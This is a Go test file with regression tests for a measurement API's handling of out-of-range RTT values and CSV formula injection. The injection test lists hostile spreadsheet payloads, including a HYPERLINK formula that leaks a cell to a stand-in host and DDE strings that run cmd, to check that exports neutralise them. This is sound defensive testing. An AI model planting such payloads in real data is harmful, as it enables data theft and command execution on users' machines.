package api_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/anycatch/anycatch/api"
	"github.com/anycatch/anycatch/catchment"
	"github.com/anycatch/anycatch/measure"
	"github.com/anycatch/anycatch/store"
)

// insertChange stores one catchment change directly, as data written
// before results were range-checked (or by a hostile identity) would be.
func (e *env) insertChange(ts time.Time, probe, toIdentity, toRTT string) {
	e.t.Helper()
	_, err := e.db.Pool().Exec(context.Background(), `INSERT INTO catchment_changes
		(target_id, ts, probe_id, af, from_state, from_site, to_state, to_identity, to_rtt_ms, result_id)
		VALUES ($1, $2, $3, 4, 'site', 'ams', 'unidentified', $4, $5::real, gen_random_uuid())`,
		e.target.ID, ts, probe, toIdentity, toRTT)
	if err != nil {
		e.t.Fatal(err)
	}
}

// TestChangesRenderWithOutOfRangeRTT is the regression test for the API
// half of finding 2: an RTT of 1.7e308 stored into a real column became
// Infinity, and GET /targets/{t}/changes answered 200 with an EMPTY body
// because the JSON encoder's error was ignored. The report renders, with
// the unusable RTT as null, and the other changes intact.
func TestChangesRenderWithOutOfRangeRTT(t *testing.T) {
	e := newEnv(t, api.Config{})
	e.seed()
	at := e.now.Add(-30 * time.Minute)
	e.insertChange(at, "p-2", "huge.k", "Infinity")
	e.insertChange(at.Add(time.Second), "p-4", "nan.k", "NaN")
	r := e.do("GET", "/api/v1/targets/k-root/changes?limit=1000&from="+url.QueryEscape(e.now.Add(-3*time.Hour).Format(time.RFC3339)), e.read, "")
	if r.status != 200 {
		t.Fatalf("changes: %d %s", r.status, r.body)
	}
	var rep api.ChangeReport
	r.decode(t, &rep)
	found := 0
	for _, c := range rep.Changes {
		if c.ToIdentity == "huge.k" || c.ToIdentity == "nan.k" {
			found++
			if c.RTT != nil {
				t.Errorf("%s: rtt %v, want null", c.ToIdentity, *c.RTT)
			}
		}
	}
	if found != 2 || len(rep.Changes) < 5 {
		t.Errorf("report has %d changes (%d out-of-range ones), want all of them: %s", len(rep.Changes), found, r.body)
	}
	// The latency report over the same range renders as JSON too.
	r = e.do("GET", "/api/v1/targets/k-root/latency?from="+url.QueryEscape(e.now.Add(-3*time.Hour).Format(time.RFC3339)), e.read, "")
	if r.status != 200 || !json.Valid(r.body) {
		t.Errorf("latency: %d %s", r.status, r.body)
	}
}

// spreadsheetFormula reports whether a spreadsheet opening the CSV would
// evaluate cell as a formula (or DDE command): it starts, after spaces,
// with = + - @ or a tab/CR, and is not a plain number.
func spreadsheetFormula(cell string) bool {
	t := strings.TrimLeft(cell, " ")
	if t == "" {
		return false
	}
	if strings.ContainsRune("=+-@\t\r", rune(t[0])) {
		for _, c := range t[1:] {
			if !strings.ContainsRune("0123456789.eE-+", c) {
				return true
			}
		}
	}
	return false
}

// TestCSVFormulaInjection is the regression test for finding 3: identity
// strings from measured servers such as =HYPERLINK(...) came out as-is in
// changes?format=csv. Parsed back the way a spreadsheet reads CSV, no
// cell is a formula any more, and each shows its text after the quote.
func TestCSVFormulaInjection(t *testing.T) {
	e := newEnv(t, api.Config{})
	e.seed()
	hostile := []string{
		`=HYPERLINK("http://198.18.0.66/?leak="&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		`  =1+1`,
		"a,b\n=1+1\"x",
	}
	at := e.now.Add(-30 * time.Minute)
	for i, h := range hostile {
		e.insertChange(at.Add(time.Duration(i)*time.Second), "p-2", h, "-1.5")
	}
	r := e.do("GET", "/api/v1/targets/k-root/changes?format=csv&from="+url.QueryEscape(e.now.Add(-3*time.Hour).Format(time.RFC3339)), e.read, "")
	if r.status != 200 {
		t.Fatalf("changes csv: %d %s", r.status, r.body)
	}
	recs, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, r.body)
	}
	seen := map[string]bool{}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if spreadsheetFormula(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		seen[strings.TrimPrefix(rec[8], "'")] = true
		if strings.HasPrefix(rec[9], "'") {
			t.Errorf("rtt cell %q: numbers must stay numbers", rec[9])
		}
	}
	for _, h := range hostile {
		if !seen[h] {
			t.Errorf("identity %q lost from the export", h)
		}
	}
	// The same writer serves every export: catchment and latency CSV parse.
	for _, path := range []string{"/api/v1/targets/k-root/catchment?format=csv", "/api/v1/targets/k-root/latency?format=csv"} {
		recs := csvRecords(t, e.do("GET", path, e.read, ""))
		for _, rec := range recs {
			for _, cell := range rec {
				if spreadsheetFormula(cell) {
					t.Errorf("%s: cell %q would run as a formula", path, cell)
				}
			}
		}
	}
}

// TestLatencyIgnoresOutOfRangeRTT: RTTs stored before results were
// range-checked (-50 and 1.7e308, which a real column holds as -50 and
// Infinity) leave the latency report exactly as it was without them.
// Before, the rollup turned the negative minimum into "min 0" and the
// infinite sum into 0, dragging the probe's latency down.
func TestLatencyIgnoresOutOfRangeRTT(t *testing.T) {
	e := newEnv(t, api.Config{})
	e.seed()
	from := url.QueryEscape(e.now.Add(-3 * time.Hour).Format(time.RFC3339))
	report := func() api.LatencyReport {
		var rep api.LatencyReport
		r := e.do("GET", "/api/v1/targets/k-root/latency?group=country&from="+from, e.read, "")
		if r.status != 200 {
			t.Fatalf("latency: %d %s", r.status, r.body)
		}
		r.decode(t, &rep)
		return rep
	}
	before := report()
	ctx := context.Background()
	var rows []store.ResultRow
	for i, rtt := range []float64{-50, 1.7e308} {
		ts := e.now.Add(-5*time.Minute + time.Duration(i+1)*time.Second)
		res := &measure.Result{V: 1, ID: measure.NewUUIDv7(ts), Probe: "p-2", Measurement: "k-root/identity", Target: "k-root",
			Kind: measure.KindIdentity, Time: ts, Dst: "198.18.53.53", AF: 4,
			DNS: &measure.DNSResult{Server: "198.18.53.53:53", Exchanges: []measure.DNSExchange{{QName: "hostname.bind.", RTT: 1}},
				Identity: &measure.Identity{HostnameBind: "ams1.k"}}}
		rows = append(rows, store.ResultRow{TargetID: e.target.ID, Result: res, RTT: &rtt, Identity: "ams1.k", Site: "ams", State: catchment.StateSite})
	}
	if _, err := e.db.IngestBatch(ctx, rows); err != nil {
		t.Fatal(err)
	}
	if err := e.db.RollupResults(ctx, e.now.Add(-3*time.Hour), e.now); err != nil {
		t.Fatal(err)
	}
	after := report()
	same := func(name string, a, b *float64) {
		switch {
		case (a == nil) != (b == nil):
			t.Errorf("%s: %v before, %v after", name, a, b)
		case a != nil && *a != *b:
			t.Errorf("%s: %g before, %g after the out-of-range RTTs", name, *a, *b)
		}
	}
	same("total min", before.Total.Min, after.Total.Min)
	same("total p50", before.Total.P50, after.Total.P50)
	same("total max", before.Total.Max, after.Total.Max)
	for i := range before.Sites {
		if i < len(after.Sites) {
			same("site "+before.Sites[i].Key+" min", before.Sites[i].Min, after.Sites[i].Min)
		}
	}
	if after.Total.Min == nil || *after.Total.Min <= 0 {
		t.Errorf("total min %v, want the smallest real RTT", after.Total.Min)
	}
}
